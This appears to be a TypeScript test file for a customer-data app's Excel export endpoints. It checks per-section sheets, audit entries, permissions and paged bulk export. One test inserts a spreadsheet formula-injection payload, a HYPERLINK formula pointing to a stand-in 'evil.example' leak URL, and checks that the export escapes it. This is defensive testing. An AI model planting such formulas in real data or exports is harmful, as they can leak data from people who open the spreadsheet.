/**
 * Excel exports over the real app and the bundled sample (003): an independent reader
 * (read-excel-file) opens the workbook of customer 17850 and finds one sheet per section with the
 * API's values; text that a spreadsheet would run as a formula is escaped as in the CSV; the bulk
 * workbook holds every customer of the search; both are audited.
 */
import readXlsxFile from 'read-excel-file/node';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CustomerSearchQuery } from '@c360/sdk';
import { openSampleApp, withToken, type SampleApp } from '../helpers/sample-db.js';
import { exportCustomersXlsx } from '../../src/export/xlsx-bulk.js';
import { xlsxCell, XLSX_SHEETS } from '../../src/export/xlsx.js';
import { csvLines } from '../../src/export/csv.js';

const C = '17850';
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
let sample: SampleApp;
beforeAll(async () => {
  sample = await openSampleApp();
});
afterAll(() => sample.close());

async function raw(path: string, role: 'viewer' | 'agent' | 'manager' | 'admin' = 'admin'): Promise<Response> {
  return withToken(sample.rawApp, sample.tokens[role]).request(`http://localhost${path}`);
}

const auditCount = async (action: string) =>
  (await sample.db.selectFrom('audit_log').select('id').where('action', '=', action).execute()).length;

/** The workbook as `{sheetName: rows}`. */
async function readWorkbook(bytes: ArrayBuffer): Promise<Record<string, unknown[][]>> {
  const sheets = await readXlsxFile(Buffer.from(bytes));
  return Object.fromEntries(sheets.map((s) => [s.sheet, s.data as unknown[][]]));
}

describe('GET /customers/{id}/export?format=xlsx', () => {
  it('is a workbook with a sheet per section holding the values of the API; audited with a timeline entry', async () => {
    const [view, orders, support] = await Promise.all(
      ['360', 'orders?limit=200', 'support'].map(async (p) => (await sample.call(`/customers/${C}/${p}`)).body),
    );
    const before = await auditCount('export.xlsx');
    const res = await raw(`/customers/${C}/export?format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(XLSX_TYPE);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="c360-${C}-${view.asOf.slice(0, 10)}.xlsx"`);
    const book = await readWorkbook(await res.arrayBuffer());
    expect(Object.keys(book)).toEqual([...XLSX_SHEETS]);

    const summary = new Map(book.Summary!.slice(1).map((r) => [r[0], r[1]]));
    expect(summary.get('customer')).toBe(C);
    expect(summary.get('name')).toBe(view.profile.name);
    expect(summary.get('exportedBy')).toBe('local operator (admin)');
    expect(summary.get('asOf')).toBe(view.asOf);

    const metrics = new Map(book.Metrics!.slice(1).map((r) => [r[0], r[1]]));
    expect(book.Metrics![0]).toEqual(['metric', 'value', 'unit']);
    expect(metrics.get('lifetimeValue')).toBe(view.metrics.lifetimeValue);
    expect(metrics.get('totalOrders')).toBe(view.metrics.totalOrders);
    expect(metrics.get('healthScore')).toBe(view.health.score);
    expect(metrics.get('churnLevel')).toBe(view.churn.level);

    expect(book.Orders![0]).toEqual(['number', 'placedAt', 'status', 'total', 'currency', 'items', 'quantity']);
    expect(book.Orders!.length - 1).toBe(orders.totalOrders);
    expect(book.Orders![1]).toEqual([
      orders.orders[0].number,
      orders.orders[0].placedAt,
      orders.orders[0].status,
      orders.orders[0].total,
      orders.orders[0].currency,
      orders.orders[0].itemsCount,
      orders.orders[0].quantity,
    ]);
    const sum = book
      .Orders!.slice(1)
      .filter((r) => r[2] === 'completed' || r[2] === 'delivered')
      .reduce((s, r) => s + (r[3] as number), 0);
    expect(sum).toBeCloseTo(view.metrics.lifetimeValue, 2);
    expect(book.Support!.length - 1).toBe(support.totalTickets);

    expect(await auditCount('export.xlsx')).toBe(before + 1);
    const events = (await sample.call(`/customers/${C}/timeline?types=export&limit=1`)).body.events;
    expect(events[0]).toMatchObject({ type: 'export', title: 'XLSX export by local operator' });
  });

  it('escapes text a spreadsheet would run as a formula, as the CSV does', async () => {
    const name = '=HYPERLINK("http://evil.example/?leak=1")';
    const post = await sample.call('/events', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify([
        { id: 'xlsx-formula-1', type: 'customer.upserted', occurredAt: '2011-11-01T10:00:00.000Z', data: { customerId: 'xlsx-f1', name } },
      ]),
    });
    expect(post.status).toBe(200);
    const book = await readWorkbook(await (await raw('/customers/xlsx-f1/export?format=xlsx')).arrayBuffer());
    const summary = new Map(book.Summary!.slice(1).map((r) => [r[0], r[1]]));
    expect(summary.get('name')).toBe(`'${name}`);
    // The same in French: translated sheet and field names, the same escaped cell.
    const french = await readWorkbook(await (await raw('/customers/xlsx-f1/export?format=xlsx&locale=fr')).arrayBuffer());
    expect(new Map(french['Résumé']!.slice(1).map((r) => [r[0], r[1]])).get('nom')).toBe(`'${name}`);
  });

  it('escapes text exactly as the CSV export does; numbers and booleans pass unchanged (property)', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, unit: 'grapheme-ascii' }), (value) => {
        const csvCell = Papa.parse<string[]>(csvLines([[value]]), { newline: '\r\n', delimiter: ',' }).data[0]![0];
        expect(xlsxCell(value)).toBe(csvCell);
        expect(xlsxCell(value)).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { examples: [['=1+1'], ['+44 20'], ['-5'], ['@SUM(A1)'], ['\tx'], ['\rx'], ['plain']] },
    );
    fc.assert(
      fc.property(fc.oneof(fc.double(), fc.boolean(), fc.constant(null)), (value) => {
        expect(xlsxCell(value)).toBe(value);
      }),
    );
  });

  it('needs the export permission', async () => {
    expect((await raw(`/customers/${C}/export?format=xlsx`, 'viewer')).status).toBe(403);
    expect((await raw(`/customers/${C}/export?format=xls`)).status).toBe(400);
  });
});

describe('GET /customers/export.xlsx', () => {
  it('has one row per customer of the search, in its order, and is audited once', async () => {
    const search = (await sample.call('/customers?clvMin=1000&sort=-lifetimeValue&limit=100')).body;
    expect(search.total).toBeGreaterThan(0);
    const before = await auditCount('export.customers.xlsx');
    const res = await raw('/customers/export.xlsx?clvMin=1000&sort=-lifetimeValue');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(XLSX_TYPE);
    expect(res.headers.get('x-c360-total')).toBe(String(search.total));
    const book = await readWorkbook(await res.arrayBuffer());
    expect(Object.keys(book)).toEqual(['Customers', 'Export']);
    const [header, ...rows] = book.Customers!;
    expect(header).toEqual(['id', 'name', 'email', 'phone', 'country', 'currency', 'lifetimeValue', 'totalOrders', 'lastPurchaseAt']);
    expect(rows.length).toBe(search.total);
    expect(rows.slice(0, search.items.length).map((r) => [r[0], r[6], r[7]])).toEqual(
      search.items.map((c: any) => [c.id, c.lifetimeValue, c.totalOrders]),
    );
    expect(new Map(book.Export!.map((r) => [r[0], r[1]])).get('customers')).toBe(String(search.total));
    expect(await auditCount('export.customers.xlsx')).toBe(before + 1);
  });

  it('every customer across many small pages, none twice', async () => {
    const total = (await sample.call('/customers?limit=1')).body.total;
    const started = await exportCustomersXlsx(sample.db, CustomerSearchQuery.parse({}), { pageSize: 37 });
    expect(started.total).toBe(total);
    const chunks: Buffer[] = [];
    for await (const chunk of started.stream) chunks.push(chunk as Buffer);
    const ids = (await readXlsxFile(Buffer.concat(chunks)))[0]!.data.slice(1).map((r) => r[0]);
    expect(ids.length).toBe(total);
    expect(new Set(ids).size).toBe(total);
  });
});
